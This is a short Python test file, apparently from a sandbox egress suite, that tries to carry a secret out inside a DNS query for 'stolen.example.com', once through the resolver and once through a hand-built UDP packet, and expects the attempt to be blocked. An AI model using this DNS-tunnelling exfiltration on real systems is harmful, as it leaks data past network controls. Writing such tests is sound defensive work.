"""Carries a secret out as the name in a question to a name server, by the system's resolver and by hand."""
# expect: by hand: PermissionError

import socket

from deeds import TARGETS, attempt


def by_hand():
    name = b"".join(bytes([len(label)]) + label for label in (b"stolen", b"example", b"com"))
    question = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + name + b"\0\0\x01\0\x01"
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDP)
    return sender.sendto(question, ("127.0.0.1", TARGETS["udp"]))


attempt("resolver", socket.getaddrinfo, "stolen.example.com", 80)
attempt("by hand", by_hand)
